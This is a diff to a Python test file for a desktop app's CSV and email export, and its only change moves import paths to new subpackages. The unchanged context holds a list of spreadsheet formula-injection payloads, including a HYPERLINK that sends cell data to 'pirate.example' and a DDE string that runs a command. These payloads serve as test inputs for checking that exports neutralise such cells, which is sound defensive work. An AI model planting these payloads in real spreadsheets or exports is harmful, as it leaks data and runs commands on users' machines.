@@ -19,9 +19,9 @@ from aiosmtpd.controller import Controller
 from aiosmtpd.smtp import AuthResult
 from attack_helpers import assert_refused, files_of
 
-from alize_desktop.services.bundle_csv import cell, safe_text
-from alize_desktop.services.email_draft import Covering, EmailProblem, compose
-from alize_desktop.services.smtp_send import SendFailed, SmtpSettings, send_message, settings_problems
+from alize_desktop.services.export.bundle_csv import cell, safe_text
+from alize_desktop.services.export.email_draft import Covering, EmailProblem, compose
+from alize_desktop.services.export.smtp_send import SendFailed, SmtpSettings, send_message, settings_problems
 
 HOSTILE = ['=HYPERLINK("http://pirate.example/?v="&A1;"Cliquez")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A9)",
            "=1+1", "+33 6 12 34 56 78"]
@@ -86,7 +86,7 @@ def test_only_text_cells_are_neutralised(field: str, value: Any, expected: str) 
 
 def test_the_ledger_csv_neutralises_text_and_keeps_negative_amounts(hostile_db: pathlib.Path, tmp_path: pathlib.Path) -> None:
     from alize_desktop.db import open_database
-    from alize_desktop.services.ledger_csv import write_ledger
+    from alize_desktop.services.fund.ledger_csv import write_ledger
 
     engine = open_database(hostile_db)
     try:
